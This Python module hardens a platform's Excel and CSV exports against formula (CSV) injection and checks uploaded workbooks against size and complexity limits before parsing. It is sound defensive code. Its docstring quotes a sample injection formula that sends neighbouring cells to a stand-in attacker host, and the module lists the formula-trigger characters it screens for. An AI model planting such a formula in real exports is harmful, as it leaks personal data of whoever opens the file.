"""Every Excel and CSV file the platform writes goes through here: text is written as text, never as a formula.

A name typed as ``=HYPERLINK("http://evil.example/?"&A1,"点击")`` (or beginning with ``+``, ``-``,
``@``, a tab or a carriage return, OWASP "CSV injection") would otherwise run as a formula in the
spreadsheet program of whoever opens the export: it can send neighbouring cells (ID numbers,
phones) to a web address, or start programs in older Excel versions.

* Excel (openpyxl): a text value is a string cell (``data_type = "s"``, openpyxl would otherwise
  make anything starting with ``=`` a formula cell) and, if it starts like a formula, carries
  Excel's "quote prefix" style, so editing the cell in Excel keeps it text too. The value itself is
  unchanged, so an export read back by the import is the same data.
* CSV has no types: a text value that starts like a formula gets a leading apostrophe, as OWASP
  recommends; spreadsheet programs show it without the apostrophe and do not evaluate it.

Only text is touched: a number (a negative floor, a refund's negative amount) stays a number.

Used by the inventory export (estates.inventory), the arrears export (billing.admin_views) and every
back-office list export (``SafeSpreadsheetExportMixin`` in the scoped index views).
"""

from __future__ import annotations

import datetime
import posixpath
import re
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any
from xml.etree.ElementTree import ParseError

from defusedxml import ElementTree
from defusedxml.common import DefusedXmlException
from django.conf import settings
from django.utils.translation import get_language
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from wagtail.admin.views.mixins import list_to_str

from accounts.formats import format_instant, naive_local

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet program could take this text for a formula (OWASP's list of first characters)."""
    return text.startswith(FORMULA_TRIGGERS)


def looks_like_formula(text: str) -> bool:
    """``starts_like_formula``, except a plain signed number such as ``-1`` (a basement floor): the
    import refuses what looks like a formula but accepts a number written as text."""
    return starts_like_formula(text) and not _PLAIN_NUMBER.fullmatch(text)


def csv_value(value: Any) -> Any:
    """A value for a CSV cell: risky text gets a leading apostrophe; anything else is unchanged."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


def as_text_cell(cell: Cell) -> Cell:
    """Make a write-only cell holding text a string cell, quote-prefixed when it starts like a formula."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if starts_like_formula(cell.value):
            cell.quotePrefix = True
    return cell


def xlsx_cell(worksheet, value: Any, *, number_format: str | None = None) -> Cell:
    # WriteOnlyCell is a factory of Cell objects, not a class.
    cell = value if isinstance(value, Cell) else WriteOnlyCell(worksheet, value=naive_local(value))
    if number_format:
        cell.number_format = number_format
    return as_text_cell(cell)


def xlsx_row(worksheet, values: Iterable[Any]) -> list[Cell]:
    """A row for ``worksheet.append`` in a write-only workbook, every text as text."""
    return [xlsx_cell(worksheet, value) for value in values]


# --- headers people can read ---------------------------------------------------------------


def in_chinese() -> bool:
    """Whether the active language (the reader's: request, user preference or the site default) is Chinese."""
    return (get_language() or settings.LANGUAGE_CODE).lower().startswith("zh")


@dataclass(frozen=True)
class Heading:
    """A column header in the reader's language: Chinese in Chinese mode, English (a translatable
    string) otherwise. The Chinese is written here rather than left to the catalogue because a sheet
    that comes back as an import must be recognised by exactly these words."""

    zh: str
    en: Any

    def __str__(self) -> str:
        return self.zh if in_chinese() else str(self.en)


HEADER_FONT = Font(bold=True)


def _display_width(text: str) -> int:
    return sum(2 if ord(char) > 0x2E80 else 1 for char in text)


def append_header(worksheet, labels: Iterable[Any]) -> None:
    """Write the header row of a write-only sheet: bold, columns wide enough to read it, and frozen
    (``freeze_panes = "A2"``) so it stays in view while scrolling. Call it before any other row:
    a write-only sheet writes its view settings with the first row."""
    texts = [str(label) for label in labels]
    worksheet.freeze_panes = "A2"
    for position, text in enumerate(texts, start=1):
        worksheet.column_dimensions[get_column_letter(position)].width = max(10, min(40, _display_width(text) + 4))
    cells = []
    for text in texts:
        cell = xlsx_cell(worksheet, text)
        cell.font = HEADER_FONT
        cells.append(cell)
    worksheet.append(cells)


class SafeSpreadsheetExportMixin:
    """For views built on Wagtail's ``SpreadsheetExportMixin`` (every ModelViewSet index view with
    ``list_export``): its XLSX rows already avoid formula cells but not Excel's re-evaluation on
    edit, and its CSV rows are written raw."""

    def write_xlsx(self, queryset, output):
        """Wagtail's ``write_xlsx`` with a readable, frozen header row (``append_header``) and the
        list's name as the sheet's; headings come from ``export_headings`` (``Heading``s)."""
        from openpyxl import Workbook
        from wagtail.admin.views.mixins import ExcelDateFormatter

        workbook = Workbook(write_only=True, iso_dates=True)
        title = re.sub(r"[\\/*?:\[\]]", " ", str(queryset.model._meta.verbose_name_plural))[:31] or "Sheet1"
        worksheet = workbook.create_sheet(title=title)
        append_header(worksheet, [self.get_heading(queryset, field) for field in self.list_export])
        date_format = ExcelDateFormatter().get()
        for item in queryset:
            worksheet.append(self.generate_xlsx_row(worksheet, self.to_row_dict(item), date_format=date_format))
        workbook.save(output)

    # Instants in Beijing time (Wagtail's default writes XLSX in UTC and CSV as "…+00:00"); openpyxl
    # stores naive datetimes only, so the wall-clock time is written without a zone.
    custom_value_preprocess = {
        datetime.datetime: {"xlsx": naive_local, "csv": format_instant},
        (datetime.date, datetime.time): {"xlsx": None},
        list: {"csv": list_to_str, "xlsx": list_to_str},
    }

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format=date_format):
            yield as_text_cell(cell)

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {field: csv_value(self.preprocess_field_value(field, value, self.FORMAT_CSV)) for field, value in row_dict.items()}
        )


# --- reading: limits checked before a workbook is parsed -----------------------------------------

MAX_UNCOMPRESSED_BYTES = 256 * 1024 * 1024  # all members of the .xlsx zip together, as declared
MAX_ZIP_MEMBERS = 1000
MAX_CELLS_PER_SHEET = 1_000_000
MAX_COLUMNS = 100
MAX_CELL_CHARS = 1000
MAX_SHARED_TEXTS = 2_000_000
_CHUNK = 1024 * 1024
# A text of MAX_CELL_CHARS characters takes at most this many bytes of XML (UTF-8 and escapes).
_MAX_TEXT_BYTES = 8 * MAX_CELL_CHARS

_ROOT = re.compile(rb"<(?:([A-Za-z_][\w.-]*):)?(?:worksheet|sst)[\s>]")


def _wide_columns_pattern(limit: int) -> re.Pattern:
    """Cell references beyond column ``limit`` (< 702, i.e. two letters), e.g. 100 -> CW1, DA7, XFD2."""
    letters = get_column_letter(limit + 1)
    assert len(letters) == 2, "limit beyond two-letter columns"
    alternatives = [b"[A-Z]{3}", b"%s[%s-Z]" % (letters[0].encode(), letters[1].encode())]
    if letters[0] != "Z":
        alternatives.append(b"[%s-Z][A-Z]" % chr(ord(letters[0]) + 1).encode())
    # The literal prefix lets the regex engine skip ahead quickly; row elements' r="5" has no letters.
    return re.compile(rb' r="(%s)([0-9]+)"' % b"|".join(alternatives))


_WIDE_REF = _wide_columns_pattern(MAX_COLUMNS)
_ANY_REF = re.compile(rb' r="([A-Z]{1,3})([0-9]+)"')
_SHARED_CELL = re.compile(rb"<(?:[A-Za-z_][\w.-]*:)?c\s([^>]*)>\s*<(?:[A-Za-z_][\w.-]*:)?v>([0-9]+)<")


@dataclass(frozen=True)
class LimitProblem:
    """Why a workbook is refused before it is parsed, and where (sheet title and cell, when known)."""

    message_zh: str
    message_en: str
    sheet: str = ""
    cell: str = ""


def column_number(letters: bytes | str) -> int:
    number = 0
    for char in letters.decode() if isinstance(letters, bytes) else letters:
        number = number * 26 + ord(char) - 64
    return number


def _too_long(sheet: str = "", cell: str = "") -> LimitProblem:
    return LimitProblem(
        f"单元格内容超过 {MAX_CELL_CHARS} 个字符的上限",
        f"a cell holds more than the limit of {MAX_CELL_CHARS} characters",
        sheet,
        cell,
    )


def _sheet_members(archive: zipfile.ZipFile) -> list[tuple[str, str]]:
    """(sheet title, zip member) for each worksheet, from xl/workbook.xml and its relationships."""
    try:
        workbook = ElementTree.fromstring(archive.read("xl/workbook.xml"))
        rels = ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
    except (KeyError, ParseError, DefusedXmlException):
        return []
    targets = {}
    for rel in rels:
        target = rel.get("Target", "")
        target = target.lstrip("/") if target.startswith("/") else f"xl/{target}"
        targets[rel.get("Id")] = posixpath.normpath(target)
    members = []
    for element in workbook.iter():
        if element.tag.rsplit("}", 1)[-1] != "sheet":
            continue
        rid = next((value for key, value in element.attrib.items() if key.rsplit("}", 1)[-1] == "id"), None)
        if rid in targets:
            members.append((element.get("name", ""), targets[rid]))
    return members


def _segments(archive: zipfile.ZipFile, member: str):
    """The member's XML in pieces that end just before a '<', so no tag is cut in two.

    A text run longer than the limit shows itself as a piece without any '<' in it: that piece is
    yielded as it is (the caller finds the long run) and reading stops there.
    """
    carry = b""
    with archive.open(member) as stream:
        while chunk := stream.read(_CHUNK):
            data = carry + chunk
            cut = data.rfind(b"<")
            if cut <= 0:
                if len(data) > _MAX_TEXT_BYTES:
                    yield data
                    return
                carry = data
                continue
            yield data[:cut]
            carry = data[cut:]
    if carry:
        yield carry


def workbook_limit_problem(file, *, wanted: Callable[[str], bool]) -> LimitProblem | None:
    """Check an .xlsx (a seekable binary file) against the limits before openpyxl parses it.

    Declared sizes are a true bound: Python's zipfile stops a member at its declared size (and
    fails on a CRC mismatch), so a member cannot expand beyond what the check saw. The sheets that
    ``wanted(title)`` accepts are read as a stream of XML pieces and their cells counted, their
    columns and text lengths checked; the shared text table (which openpyxl loads whole) is
    checked for texts over the limit. A zip that is not readable passes: the parser reports it.
    """
    try:
        archive = zipfile.ZipFile(file)
    except (zipfile.BadZipFile, OSError, ValueError):
        return None
    with archive:
        infos = archive.infolist()
        if len(infos) > MAX_ZIP_MEMBERS:
            return LimitProblem(
                f"工作簿包含的文件数超过 {MAX_ZIP_MEMBERS} 个的上限",
                f"the workbook contains more than the limit of {MAX_ZIP_MEMBERS} parts",
            )
        total = sum(info.file_size for info in infos)
        if total > MAX_UNCOMPRESSED_BYTES:
            biggest = max(infos, key=lambda info: info.file_size)
            limit_mb = MAX_UNCOMPRESSED_BYTES // 1024 // 1024
            return LimitProblem(
                f"工作簿解压后为 {total // 1024 // 1024} MB，超过 {limit_mb} MB 的上限（最大部分：{biggest.filename}）",
                f"the workbook expands to {total // 1024 // 1024} MB, more than the limit of {limit_mb} MB "
                f"(largest part: {biggest.filename})",
            )
        sheets = [(title, member) for title, member in _sheet_members(archive) if wanted(title)]
        long_shared: set[int] = set()
        if "xl/sharedStrings.xml" in archive.namelist():
            seen = 0
            tags: tuple[bytes, ...] = ()
            for segment in _segments(archive, "xl/sharedStrings.xml"):
                tags = tags or _tags(segment, b"si")
                for run_start, _run_end in _long_runs(segment):
                    long_shared.add(seen + _count(segment[:run_start], tags) - 1)
                seen += _count(segment, tags)
                if seen > MAX_SHARED_TEXTS:
                    # openpyxl holds the whole table in memory, one Python string per entry.
                    return LimitProblem(
                        f"工作簿的共享文本超过 {MAX_SHARED_TEXTS} 条的上限",
                        f"the workbook's shared text table has more than the limit of {MAX_SHARED_TEXTS} entries",
                    )
        for title, member in sheets:
            try:
                problem = _sheet_problem(archive, title, member, long_shared)
            except KeyError:
                continue
            if problem:
                return problem
        if long_shared:
            return _too_long()  # used only outside the inventory sheets, or not at all
    return None


def _tags(segment: bytes, name: bytes) -> tuple[bytes, ...]:
    """The spellings of an element's start tag, with the namespace prefix the part's root uses."""
    root = _ROOT.search(segment)
    prefix = root.group(1) + b":" if root and root.group(1) else b""
    return tuple(b"<" + prefix + name + end for end in (b" ", b">", b"/", b"\t", b"\n", b"\r"))


def _count(segment: bytes, tags: tuple[bytes, ...]) -> int:
    return sum(segment.count(tag) for tag in tags)


def _long_runs(segment: bytes):
    """(start, end) of every run of text longer than the limit (no '<' in it).

    Fast: such a run contains a whole aligned window of half its length, so one memchr per window
    finds the candidates, and only those are measured.
    """
    window = _MAX_TEXT_BYTES // 2
    position = 0
    while position + window <= len(segment):
        if segment.find(b"<", position, position + window) == -1:
            run_start = segment.rfind(b"<", 0, position) + 1
            run_end = segment.find(b"<", position)
            run_end = len(segment) if run_end == -1 else run_end
            if run_end - run_start > _MAX_TEXT_BYTES:
                yield run_start, run_end
            position = run_end
        else:
            position += window


def _last_ref(data: bytes) -> str:
    refs = _ANY_REF.findall(data)
    return (refs[-1][0] + refs[-1][1]).decode() if refs else ""


def _sheet_problem(archive: zipfile.ZipFile, title: str, member: str, long_shared: set[int]) -> LimitProblem | None:
    cells = 0
    tags: tuple[bytes, ...] = ()
    tail = b""  # the end of the previous piece, to name the cell a long text belongs to
    for segment in _segments(archive, member):
        tags = tags or _tags(segment, b"c")
        cells += _count(segment, tags)
        if cells > MAX_CELLS_PER_SHEET:
            return LimitProblem(
                f"工作表超过 {MAX_CELLS_PER_SHEET} 个单元格的上限",
                f"the sheet has more than the limit of {MAX_CELLS_PER_SHEET} cells",
                title,
            )
        wide = _WIDE_REF.search(segment)
        if wide:
            return LimitProblem(
                f"超过 {MAX_COLUMNS} 列的上限",
                f"more than the limit of {MAX_COLUMNS} columns",
                title,
                (wide.group(1) + wide.group(2)).decode(),
            )
        for run_start, _run_end in _long_runs(segment):
            return _too_long(title, _last_ref(tail + segment[max(0, run_start - 4096) : run_start]))
        if long_shared:
            for match in _SHARED_CELL.finditer(segment):
                attrs = match.group(1)
                if re.search(rb'\bt="s"', attrs) and int(match.group(2)) in long_shared:
                    return _too_long(title, _last_ref(b" " + attrs))
        tail = segment[-4096:]
    return None
